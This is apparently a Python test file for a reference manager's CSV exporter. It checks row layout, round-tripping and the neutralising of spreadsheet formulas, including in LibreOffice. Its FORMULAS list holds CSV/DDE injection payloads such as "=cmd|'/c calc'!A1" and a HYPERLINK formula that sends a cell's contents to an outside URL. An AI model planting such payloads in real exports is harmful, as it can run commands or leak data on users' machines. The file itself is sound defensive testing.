"""The CSV written, byte by byte, and as Python and LibreOffice read it."""

import csv
import re
import shutil
import subprocess
from dataclasses import replace
from io import StringIO
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest
from hypothesis import given, settings
from tests.server.telling_entries import ENTRIES, PREPRINT, PUBLISHED

from dejalu.exporters import csv_table
from dejalu.exporters.entry import Entry, Note
from dejalu.exporters.plain_text import many_lines, one_line

WRITTEN = """\
\ufeffcitekey,arxiv_id,doi,title,authors,year,published,venue,url,status,starred,tags,note,first_seen,last_seen,read_at
vaswani2017attention,arXiv:1706.03762,,Attention Is All You Need,\
"Ashish Vaswani; Laurens van der Maaten; Gemini Team, Google",2017,2017-06-12,,https://arxiv.org/abs/1706.03762,\
read,yes,"Attention, heads; to cite","> Multi-head attention
|
|Eight heads.
|
|Why eight?
|
|Read
|again.",2024-12-24,2025-01-02,2025-01-03
wei2024journal,arXiv:2305.00010,10.1000/182,After the Preprint,Yana Wei,2024,2023-05-06,Journal of Papers,\
https://doi.org/10.1000/182,,,,,,,
"""
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
FORMULAS = [
    *(f"{sign}cmd|'/c calc'!A1" for sign in SIGNS),
    *("  =1+1", "\t=1+1", "\r=1+1", "\u3000=1+1", "\u200d=1+1", '=HYPERLINK("https://x.org?"&A1)', "-1+1", "@SUM(A1)"),
]


def dump(*entries: Entry) -> bytes:
    return b"".join(csv_table.dump(entries))


def read(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(content.decode("utf-8-sig"), newline="")))


def test_rows_are_written_in_one_order_and_one_layout() -> None:
    lines = WRITTEN.replace("\n", "\r\n").replace("\r\n|", "\n")  # within a cell, a line ends with LF alone
    assert dump(PREPRINT, PUBLISHED).decode() == lines


def test_the_order_of_tags_does_not_change_the_bytes() -> None:
    assert dump(replace(PREPRINT, tags=PREPRINT.tags[::-1])) == dump(PREPRINT)


@pytest.mark.parametrize("formula", FORMULAS)
def test_nothing_is_a_formula(formula: str) -> None:
    [row] = read(dump(Entry("k", formula, (formula,), tags=(formula,), notes=(Note(formula),), url=formula)))
    for name in ("title", "authors", "tags", "note", "url"):
        assert row[name].startswith("'")
        assert one_line(row[name][1:]) == one_line(formula)


def test_an_apostrophe_of_its_own_is_told_from_the_one_put_before_a_formula() -> None:
    for title, cell in (("=1+1", "'=1+1"), ("'=1+1", "''=1+1"), ("''=1+1", "'''=1+1"), ("'tis", "'tis")):
        [row] = read(dump(Entry("k", title)))
        assert row["title"] == cell


def test_the_day_a_paper_was_read_is_not_that_of_another_status() -> None:
    [row] = read(dump(replace(PREPRINT, status="to-read")))
    assert (row["status"], row["read_at"]) == ("to-read", "")


def without_apostrophe(cell: str) -> str:
    """The cell as it was before a formula in it was made harmless."""
    return cell[1:] if re.match(rf"'+[ \n\u200c\u200d]*[{re.escape(''.join(SIGNS))}]", cell) else cell


def check(entries: list[Entry]) -> None:
    rows = read(dump(*entries))
    assert [row["citekey"] for row in rows] == [entry.citation_key for entry in entries]
    for row, entry in zip(rows, entries, strict=True):
        assert not any(cell.lstrip(" \n\u200c\u200d").startswith(SIGNS) for cell in row.values())
        assert without_apostrophe(row["title"]) == one_line(entry.title)
        assert without_apostrophe(row["authors"]) == "; ".join(filter(None, map(one_line, entry.authors)))
        assert row["status"] == (entry.status or "")
        assert row["published"] == str(entry.published or "")
        assert row["arxiv_id"] == (f"arXiv:{entry.arxiv}" if entry.arxiv else "")
        notes = "\n\n".join(filter(None, (many_lines(note.text) for note in entry.notes)))
        assert without_apostrophe(row["note"]) == notes


test_any_entry_reads_back = settings(max_examples=200, deadline=None)(given(ENTRIES)(check))
test_any_entry_reads_back_at_length = pytest.mark.soak(
    settings(max_examples=10_000, deadline=None)(given(ENTRIES)(check))
)


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_shows_every_character_and_computes_nothing(tmp_path: Path) -> None:
    titles = [*FORMULAS, "Ünïcode 大模型 🤗", 'a "b", c; d']
    entries = [Entry(f"k{i:02}", title, (title,), arxiv="2401.00010") for i, title in enumerate(titles)]
    (tmp_path / "table.csv").write_bytes(dump(*entries))
    # Commas, quotes, UTF-8, numbers and formulas recognised wherever it can: what its dialog offers at most.
    reading = "--infilter=CSV:44,34,76,1,,1033,false,true,false,false,false,0,true"
    profile = f"-env:UserInstallation=file://{tmp_path}/profile"
    command = ["soffice", profile, "--headless", reading, "--convert-to", "fods", "table.csv"]
    subprocess.run(command, cwd=tmp_path, capture_output=True, check=True, timeout=120)
    sheet = ET.parse(tmp_path / "table.fods").getroot()
    table, text = (f"{{urn:oasis:names:tc:opendocument:xmlns:{name}:1.0}}" for name in ("table", "text"))
    assert [cell for cell in sheet.iter() if f"{table}formula" in cell.attrib] == []
    rows = [["".join(p.itertext()) for p in row.iter(f"{text}p")] for row in sheet.iter(f"{table}table-row")]
    assert rows[0] == list(csv_table.COLUMNS)
    shown = {row[0]: row[1:3] for row in rows if row}
    assert shown["k00"] == ["arXiv:2401.00010", f"'{FORMULAS[0]}"]
    assert shown["k16"] == ["arXiv:2401.00010", "Ünïcode 大模型 🤗"]
    assert shown["k17"][1] == 'a "b", c; d'
